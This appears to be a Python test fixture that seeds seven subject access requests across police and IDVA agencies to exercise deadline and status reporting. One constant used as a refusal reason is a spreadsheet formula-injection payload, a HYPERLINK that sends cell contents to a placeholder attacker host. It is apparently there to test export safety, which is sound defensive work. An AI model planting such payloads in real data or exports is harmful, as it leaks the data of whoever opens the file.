"""Requests for the SAR reports' tests: seven across two months and two agencies, one of
each kind a report tells apart (on time, late, extended, paused, refused, open overdue,
waiting for identity)."""

from __future__ import annotations

import datetime as dt
from typing import Any

from sqlalchemy.orm import Session

from portal.reference.operations import agency_by_slug
from sar import operations as ops
from sar.models import SarPause, SarRequest, SarTask, Status

TODAY = dt.date(2026, 12, 7)
EXTENSION = "Complex: records held in five systems"
REFUSAL = '=HYPERLINK("https://evil.example/?"&A1, "Manifestly excessive")'


def _at(day: dt.date) -> dt.datetime:
    return dt.datetime.combine(day, dt.time(12), tzinfo=dt.UTC)


def seed_report_requests(session: Session) -> dict[str, Any]:
    """Seven requests across October and November 2026, with police and IDVA tasks:

    A (Oct, police) answered in time; B (Oct, police late with its part, IDVA) answered after
    its deadline; C (Oct, IDVA) answered after the first month but inside its two-month
    extension; D (Nov, police) answered after the first month but inside it once its
    fourteen-day pause is counted; E (Nov, police) refused the day after it came; F (Nov,
    IDVA, its part unanswered) open and overdue; G (Nov) waiting for proof of identity, with
    no agency's part yet."""
    police = agency_by_slug(session, "fenshire-police").id
    idva = agency_by_slug(session, "fenshire-idva").id

    def request(received: dt.date, *, status: str, closed: dt.date | None = None,
                started: bool = True, **kw: Any) -> SarRequest:
        sar = SarRequest(reference=ops.new_reference(), requester_name="Morgan Lee",
                         subject_name="Morgan Lee", received_on=received, status=status,
                         clock_start=received if started else None, answered_on=closed, **kw)
        session.add(sar)
        session.flush()
        return sar

    def task(sar: SarRequest, agency: int, due: dt.date, supplied: dt.date | None) -> None:
        session.add(SarTask(request_id=sar.id, agency_id=agency, due_on=due,
                            status="supplied" if supplied else "open",
                            supplied_at=_at(supplied) if supplied else None))

    a = request(dt.date(2026, 10, 1), status=Status.DELIVERED, closed=dt.date(2026, 10, 20))
    task(a, police, dt.date(2026, 10, 15), dt.date(2026, 10, 10))
    b = request(dt.date(2026, 10, 5), status=Status.READY, closed=dt.date(2026, 11, 10))
    task(b, police, dt.date(2026, 10, 19), dt.date(2026, 10, 25))
    task(b, idva, dt.date(2026, 10, 19), dt.date(2026, 10, 12))
    c = request(dt.date(2026, 10, 6), status=Status.READY, closed=dt.date(2026, 12, 1),
                extension_months=2, extension_reason=EXTENSION)
    task(c, idva, dt.date(2026, 10, 20), dt.date(2026, 10, 20))
    d = request(dt.date(2026, 11, 2), status=Status.READY, closed=TODAY)
    session.add(SarPause(request_id=d.id, reason="clarification", start=dt.date(2026, 11, 5),
                         end=dt.date(2026, 11, 19)))
    task(d, police, dt.date(2026, 11, 16), dt.date(2026, 11, 12))
    e = request(dt.date(2026, 11, 3), status=Status.REFUSED, closed=dt.date(2026, 11, 4),
                refusal_reason=REFUSAL)
    task(e, police, dt.date(2026, 11, 17), None)
    f = request(dt.date(2026, 11, 1), status=Status.IN_PROGRESS)
    task(f, idva, dt.date(2026, 11, 13), None)
    g = request(dt.date(2026, 11, 20), status=Status.WAITING_FOR_ID, started=False)
    # Outside the period: not counted
    request(dt.date(2026, 9, 30), status=Status.IN_PROGRESS)
    session.commit()
    return {"police": police, "idva": idva, "refs": [s.reference for s in (a, b, c, d, e, f, g)]}
